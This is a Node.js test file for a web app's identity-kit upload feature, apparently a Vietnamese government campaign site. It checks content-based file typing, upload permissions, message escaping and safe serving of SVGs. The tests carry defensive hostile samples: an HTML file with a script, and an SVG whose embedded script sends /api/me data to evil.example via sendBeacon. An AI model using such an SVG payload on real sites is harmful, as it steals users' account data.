// The year's identity kit and message: editors upload files checked by their bytes (libmagic), anyone previews and
// downloads them with the right type and Content-Disposition; a renamed text file is refused; officers cannot upload.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { COORD, Client, OFFICER, skip } from './lib.mjs';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

async function upload(c, bytes, name, title) {
  const fd = new FormData();
  fd.append('title', title);
  fd.append('file', new Blob([bytes]), name);
  const res = await fetch(`${process.env.DXDAY_URL}/api/campaigns/2026/identity`, {
    method: 'POST', body: fd, headers: { cookie: c.cookieHeader(), 'x-csrf-token': c.csrf },
  });
  const text = await res.text();
  let data = null;
  try { data = JSON.parse(text); } catch { /* not JSON */ }
  return { status: res.status, data, text };
}

test('identity kit: checked by content, public with the right type, message shown escaped', { skip }, async () => {
  const ed = new Client();
  await ed.login(...COORD);
  const ok = await upload(ed, PNG, 'logo.jpg', 'Biểu trưng 2026');
  assert.equal(ok.status, 201, ok.text);
  assert.equal(ok.data.mime, 'image/png', 'the bytes decide, not the name');
  const fake = await upload(ed, Buffer.from('<html><script>alert(1)</script></html>'), 'anh.png', 'Giả');
  assert.equal(fake.status, 415);
  const officer = new Client();
  await officer.login(...OFFICER);
  assert.equal((await upload(officer, PNG, 'x.png', 'x')).status, 403);
  const anon = new Client();
  const page = await anon.get('/nam/2026/bo-nhan-dien');
  assert.equal(page.status, 200);
  assert.match(page.text, /Biểu trưng 2026/);
  const res = await fetch(`${process.env.DXDAY_URL}/nhan-dien/${ok.data.sha256}?tai=1`);
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-type'), 'image/png');
  assert.match(res.headers.get('content-disposition'), /^attachment; .*filename\*=UTF-8''logo\.jpg/);
  assert.deepEqual(Buffer.from(await res.arrayBuffer()), PNG);
  assert.equal((await anon.get('/nhan-dien/' + 'a'.repeat(64))).status, 404);
  const msg = await ed.post('/api/campaigns/2026/message', { json: { text: 'Chuyển đổi số <b>vì người dân</b>', signed_by: 'Thủ tướng Chính phủ' } });
  assert.equal(msg.status, 200, msg.text);
  const again = await new Client().get('/nam/2026/bo-nhan-dien?x=1');
  assert.ok(again.text.includes('&lt;b&gt;vì người dân'), 'the message is shown as text');
  assert.equal((await ed.post('/api/campaigns/2026/message', { json: { text: '' } })).status, 422);
});

test('an SVG in the kit is downloaded, never shown on our origin; the page still previews it with <img>', { skip }, async () => {
  const ed = new Client();
  await ed.login(...COORD);
  const svg = Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("/api/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>' +
    `<rect width="10" height="10" fill="#c00"/><!-- ${Date.now()} ${Math.random()} --></svg>\n`);
  const up = await upload(ed, svg, 'logo.svg', 'Biểu trưng SVG');
  assert.equal(up.status, 201, up.text);
  assert.equal(up.data.mime, 'image/svg+xml');
  const res = await fetch(`${process.env.DXDAY_URL}/nhan-dien/${up.data.sha256}`);
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-disposition') || '', /^attachment;/, 'an SVG opened directly is a download');
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
  const page = await new Client().get('/nam/2026/bo-nhan-dien?svg=1');
  assert.ok(page.text.includes(`<img src="/nhan-dien/${up.data.sha256}"`), 'the preview is an <img>, which runs no script');
  // A raster image or a PDF may still be shown inline.
  const png = await fetch(`${process.env.DXDAY_URL}/nhan-dien/${(await upload(ed, PNG, 'logo.png', 'PNG')).data.sha256}`);
  assert.match(png.headers.get('content-disposition'), /^inline;/);
});
